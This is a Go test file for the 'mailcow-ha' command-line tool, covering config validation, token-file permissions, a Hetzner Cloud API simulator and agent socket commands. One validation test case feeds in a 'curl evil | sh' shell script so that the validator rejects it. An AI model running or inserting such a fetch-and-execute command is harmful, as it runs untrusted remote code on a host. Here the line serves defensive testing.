package cli

import (
	"bytes"
	"context"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/mailcow-ha/mailcow-ha/agent/check"
	"github.com/mailcow-ha/mailcow-ha/hcloudsim"
)

func run(t *testing.T, stdin string, args ...string) (code int, stdout, stderr string) {
	t.Helper()
	var out, errb bytes.Buffer
	code = Main(context.Background(), args, Stdio{Stdin: strings.NewReader(stdin), Stdout: &out, Stderr: &errb})
	return code, out.String(), errb.String()
}

// example returns an example's user-data with strong made-up secrets where it has placeholders, as a user fills
// it in.
func example(t *testing.T, n string) string {
	t.Helper()
	b, err := os.ReadFile("../cloud-init/examples/" + n + ".toml")
	if err != nil {
		t.Fatal(err)
	}
	return strings.NewReplacer(
		"REPLACE-with-the-output-of-openssl-rand-hex-32-0000", "9f2c4e7a1b3d5f6081a2c3e4f5a6b7c8d9e0f1a2b3c4d5e6f708192a3b4c5d6e",
		"REPLACE-with-your-64-character-Hetzner-Cloud-API-token-000000000", "Hx7kP2mQ9vR4tW8yZ3aB6cD1eF5gJ0hK2nL4pS7uV9wX3zA8bC6dE1fG5hJ7kM2n",
		"REPLACE-with-the-output-of-openssl-rand-hex-32-0001", "4b8e1c7f2a9d3e6b5c0f8a7d2e1b4c9f3a6d8e0b7c5f2a1d9e4b3c8f6a0d7e2b",
	).Replace(string(b))
}

func TestUsageAndHelp(t *testing.T) {
	if code, _, errs := run(t, ""); code != ExitUsage || !strings.Contains(errs, "Usage: mailcow-ha COMMAND") {
		t.Errorf("no args: %d %q", code, errs)
	}
	if code, out, _ := run(t, "", "--help"); code != ExitOK || !strings.Contains(out, "validate") || !strings.Contains(out, "version") {
		t.Errorf("--help: %d %q", code, out)
	}
	if code, _, errs := run(t, "", "frobnicate"); code != ExitUsage || !strings.Contains(errs, `unknown command "frobnicate"`) {
		t.Errorf("unknown: %d %q", code, errs)
	}
	for _, c := range []string{"validate", "version"} {
		if code, out, _ := run(t, "", c, "--help"); code != ExitOK || !strings.Contains(out, "Usage: mailcow-ha "+c) {
			t.Errorf("%s --help: %d %q", c, code, out)
		}
		if code, out, _ := run(t, "", "help", c); code != ExitOK || !strings.Contains(out, "Usage: mailcow-ha "+c) {
			t.Errorf("help %s: %d %q", c, code, out)
		}
	}
	if code, _, errs := run(t, "", "validate", "--nope"); code != ExitUsage || !strings.Contains(errs, "-nope") {
		t.Errorf("bad flag: %d %q", code, errs)
	}
	if code, _, errs := run(t, "", "validate", "extra"); code != ExitUsage || !strings.Contains(errs, `unexpected argument "extra"`) {
		t.Errorf("extra arg: %d %q", code, errs)
	}
}

func TestVersion(t *testing.T) {
	code, out, _ := run(t, "", "version")
	if code != ExitOK || !strings.HasPrefix(out, "mailcow-ha ") || !strings.Contains(out, "go1.") {
		t.Errorf("version: %d %q", code, out)
	}
}

func TestValidateExamples(t *testing.T) {
	for _, n := range []string{"mx1", "mx2", "mx3"} {
		// As shipped: the placeholders are refused, each by its key and line, and never echoed.
		code, _, errs := run(t, "", "validate", "--config", "../cloud-init/examples/"+n+".toml")
		if code != ExitUsage || !strings.Contains(errs, ":15: cluster.secret: a placeholder") || !strings.Contains(errs, ":37: hcloud.token: a placeholder") ||
			!strings.Contains(errs, "galera.password: a placeholder") || strings.Contains(errs, "REPLACE-with") {
			t.Fatalf("%s as shipped: exit %d: %s", n, code, errs)
		}
		path := filepath.Join(t.TempDir(), n+".toml")
		if err := os.WriteFile(path, []byte(example(t, n)), 0o600); err != nil {
			t.Fatal(err)
		}
		code, out, errs := run(t, "", "validate", "--config", path)
		if code != ExitOK {
			t.Fatalf("%s: exit %d: %s", n, code, errs)
		}
		for _, want := range []string{"valid (schema v1)", "node      " + n + " ", "priority  mx1 (150) > mx2 (100) > mx3 (50)", "cluster   mail-ha, 3 nodes"} {
			if !strings.Contains(out, want) {
				t.Errorf("%s: summary lacks %q:\n%s", n, want, out)
			}
		}
		if strings.Count(out, "\npeer ") != 2 {
			t.Errorf("%s: want 2 peers:\n%s", n, out)
		}
		if strings.Contains(out, "Hx7kP2mQ9vR4") || strings.Contains(out, "9f2c4e7a1b3d") {
			t.Errorf("%s: summary shows a secret", n)
		}
	}
}

func TestValidateBroken(t *testing.T) {
	good := example(t, "mx1")
	cases := map[string]struct {
		src  string
		want []string
	}{
		"syntax":       {strings.Replace(good, "[failover]", "[failover", 1), []string{"-:57: TOML syntax"}},
		"unknown key":  {strings.Replace(good, "check_grace", "chek_grace", 1), []string{`-:58: failover.chek_grace: unknown key (did you mean "check_grace"?)`}},
		"wrong type":   {strings.Replace(good, "volume_id = 3001", `volume_id = "3001"`, 1), []string{"-:39: hcloud.volume_id: wrong type: want integer, got string"}},
		"shebang":      {"#!/bin/bash\ncurl evil | sh\n", []string{`-: line 1: starts with "#!"`}},
		"cloud-config": {"#cloud-config\n" + good, []string{`"#cloud-config"`}},
		"bad ip":       {strings.Replace(good, `"10.0.0.3"`, `"10.0.0.300"`, 1), []string{`-:26: cluster.nodes[1].private_ip: invalid IP address "10.0.0.300"`}},
		"dup node":     {strings.Replace(good, `name = "mx3"`, `name = "mx2"`, 1), []string{`-:31: cluster.nodes[2].name: duplicate node "mx2"`}},
		"all at once": {strings.NewReplacer(`"10.0.0.3"`, `"10.0.0.300"`, `name = "mx3"`, `name = "mx2"`, "check_grace", "chek_grace").Replace(good),
			[]string{"cluster.nodes[1].private_ip", "cluster.nodes[2].name", "failover.chek_grace", "-: 3 problem(s)"}},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			code, out, errs := run(t, tc.src, "validate", "--config", "-")
			if code != ExitUsage {
				t.Fatalf("exit %d, want %d; stderr:\n%s", code, ExitUsage, errs)
			}
			if out != "" {
				t.Errorf("stdout on failure: %q", out)
			}
			for _, w := range tc.want {
				if !strings.Contains(errs, w) {
					t.Errorf("stderr lacks %q:\n%s", w, errs)
				}
			}
			if strings.Contains(errs, "Hx7kP2mQ9vR4") {
				t.Error("stderr shows the token")
			}
		})
	}
}

func TestValidateSecretFiles(t *testing.T) {
	dir := t.TempDir()
	tok := filepath.Join(dir, "hcloud.token")
	src := strings.Replace(example(t, "mx1"), `token = "Hx7kP2mQ9vR4tW8yZ3aB6cD1eF5gJ0hK2nL4pS7uV9wX3zA8bC6dE1fG5hJ7kM2n"`, "token_file = \""+tok+"\"", 1)
	cfgPath := filepath.Join(dir, "config.toml")
	if err := os.WriteFile(cfgPath, []byte(src), 0o644); err != nil {
		t.Fatal(err)
	}
	code, _, errs := run(t, "", "validate", "--config", cfgPath)
	if code != ExitUsage || !strings.Contains(errs, "hcloud.token_file: "+tok+" does not exist") {
		t.Fatalf("missing token file: %d %s", code, errs)
	}
	if err := os.WriteFile(tok, []byte("very-secret\n"), 0o640); err != nil {
		t.Fatal(err)
	}
	code, _, errs = run(t, "", "validate", "--config", cfgPath)
	if code != ExitUsage || !strings.Contains(errs, "has mode 0640") || strings.Contains(errs, "very-secret") {
		t.Fatalf("loose token file: %d %s", code, errs)
	}
	os.Chmod(tok, 0o600)
	if code, _, errs = run(t, "", "validate", "--config", cfgPath); code != ExitOK {
		t.Fatalf("good token file: %d %s", code, errs)
	}
	if code, _, errs = run(t, "", "validate", "--config", filepath.Join(dir, "nope.toml")); code != ExitUsage || !strings.Contains(errs, "no such file") {
		t.Fatalf("missing config: %d %s", code, errs)
	}
}

func TestValidateFromMetadata(t *testing.T) {
	good := example(t, "mx3")
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/hetzner/v1/userdata" {
			w.Write([]byte(good))
			return
		}
		http.NotFound(w, r)
	}))
	defer srv.Close()
	// Point the other sources at paths that do not exist by running from a config-less metadata URL only.
	code, out, errs := run(t, "", "validate", "--metadata-url", srv.URL+"/hetzner/v1")
	if _, err := os.Stat("/etc/mailcow-ha/config.toml"); err == nil {
		t.Skip("this machine has /etc/mailcow-ha/config.toml, which comes first")
	}
	if _, err := os.Stat("/var/lib/cloud/instance/user-data.txt"); err == nil {
		t.Skip("this machine has cloud-init user-data, which comes first")
	}
	if code != ExitOK || !strings.Contains(out, "metadata userdata: valid") || !strings.Contains(out, "node      mx3 ") {
		t.Fatalf("metadata: %d\n%s\n%s", code, out, errs)
	}
}

func TestImageLatest(t *testing.T) {
	sim, err := hcloudsim.New(hcloudsim.Options{})
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(sim.Handler())
	defer func() { srv.Close(); sim.Close() }()
	t.Setenv("HCLOUD_ENDPOINT", srv.URL+"/v1")
	t.Setenv("HCLOUD_TOKEN", hcloudsim.DemoToken)
	if code, out, errs := run(t, "", "image", "latest"); code != ExitOK || out != "5002\n" {
		t.Fatalf("image latest: %d %q %q", code, out, errs)
	}
	// The newest snapshot of all (5004) is of the testing channel: picked only when asked for.
	if code, out, errs := run(t, "", "image", "latest", "--channel", "testing"); code != ExitOK || out != "5004\n" {
		t.Fatalf("image latest --channel testing: %d %q %q", code, out, errs)
	}
	if code, out, _ := run(t, "", "image", "latest", "--selector", "version=2026.10"); code != ExitOK || out != "5001\n" {
		t.Fatalf("image latest --selector: %d %q", code, out)
	}
	if code, _, errs := run(t, "", "image", "latest", "--selector", "app=none", "--timeout", "2s"); code != ExitFailure || !strings.Contains(errs, "no snapshot matches") {
		t.Fatalf("no match: %d %q", code, errs)
	}
	// A token from a file, which must be mode 0600.
	t.Setenv("HCLOUD_TOKEN", "")
	tok := filepath.Join(t.TempDir(), "token")
	os.WriteFile(tok, []byte(hcloudsim.DemoToken+"\n"), 0o644)
	if code, _, errs := run(t, "", "image", "latest", "--token-file", tok); code != ExitUsage || !strings.Contains(errs, "mode 0644") {
		t.Fatalf("loose token file: %d %q", code, errs)
	}
	os.Chmod(tok, 0o600)
	if code, out, errs := run(t, "", "image", "latest", "--token-file", tok); code != ExitOK || out != "5002\n" {
		t.Fatalf("token file: %d %q %q", code, out, errs)
	}
	if code, _, errs := run(t, "", "image", "latest"); code != ExitUsage || !strings.Contains(errs, "no API token") {
		t.Fatalf("no token: %d %q", code, errs)
	}
	t.Setenv("HCLOUD_TOKEN", strings.Repeat("x", 64))
	if code, _, errs := run(t, "", "image", "latest"); code != ExitFailure || !strings.Contains(errs, "unauthorized") || strings.Contains(errs, strings.Repeat("x", 64)) {
		t.Fatalf("wrong token: %d %q", code, errs)
	}
}

// syncBuffer is a bytes.Buffer safe for the command's goroutine and the test.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

func TestHcloudsimCommand(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	var out, errb syncBuffer
	done := make(chan int)
	go func() {
		done <- Hcloudsim(ctx, []string{"--listen", "127.0.0.1:0", "--latency-scale", "0.01"}, Stdio{Stdout: &out, Stderr: &errb})
	}()
	var api string
	for i := 0; i < 100 && api == ""; i++ {
		time.Sleep(20 * time.Millisecond)
		if _, rest, ok := strings.Cut(out.String(), "API "); ok {
			api, _, _ = strings.Cut(rest, " ")
		}
	}
	if api == "" {
		t.Fatalf("no address printed: %q %q", out.String(), errb.String())
	}
	req, _ := http.NewRequest("GET", api+"/servers", nil)
	req.Header.Set("Authorization", "Bearer "+hcloudsim.DemoToken)
	resp, err := http.DefaultClient.Do(req)
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("GET servers: %v %v", err, resp)
	}
	resp.Body.Close()
	cancel()
	if code := <-done; code != 0 {
		t.Fatalf("exit %d: %s", code, errb.String())
	}
	if code := Hcloudsim(context.Background(), []string{"--state", "/nonexistent.json"}, Stdio{Stdout: &out, Stderr: &errb}); code != 2 {
		t.Fatalf("bad state file: exit %d", code)
	}
}

// The agent verbs send their word over the local socket and print the agent's answer; a wrong word is a usage error
// that never reaches the agent.
func TestAgentVerbs(t *testing.T) {
	sock := filepath.Join(t.TempDir(), "agent.sock")
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var mu sync.Mutex
	var got []string
	go check.Serve(ctx, sock, func() (bool, string) { return true, "ok" }, func(_ context.Context, verb string, args []string) string {
		mu.Lock()
		got = append(got, strings.TrimSpace(verb+" "+strings.Join(args, " ")))
		mu.Unlock()
		return "ok done " + verb
	}, nil)
	for i := 0; i < 50; i++ {
		if _, err := os.Stat(sock); err == nil {
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	if code, out, errs := run(t, "", "breaker", "reset", "--socket", sock); code != ExitOK || !strings.Contains(out, "done breaker") {
		t.Errorf("breaker reset: %d %q %q", code, out, errs)
	}
	if code, out, errs := run(t, "", "maintenance", "off", "--socket", sock); code != ExitOK || !strings.Contains(out, "done maintenance") {
		t.Errorf("maintenance off: %d %q %q", code, out, errs)
	}
	if code, out, errs := run(t, "", "galera", "force-bootstrap", "--socket", sock); code != ExitOK || !strings.Contains(out, "done galera") {
		t.Errorf("galera force-bootstrap: %d %q %q", code, out, errs)
	}
	if code, _, errs := run(t, "", "breaker", "trip", "--socket", sock); code != ExitUsage || !strings.Contains(errs, "Usage: mailcow-ha breaker reset [--socket PATH]") {
		t.Errorf("breaker trip: %d %q", code, errs)
	}
	mu.Lock()
	defer mu.Unlock()
	if strings.Join(got, ";") != "breaker reset;maintenance off;galera force-bootstrap" {
		t.Errorf("the agent was asked: %q", got)
	}
}
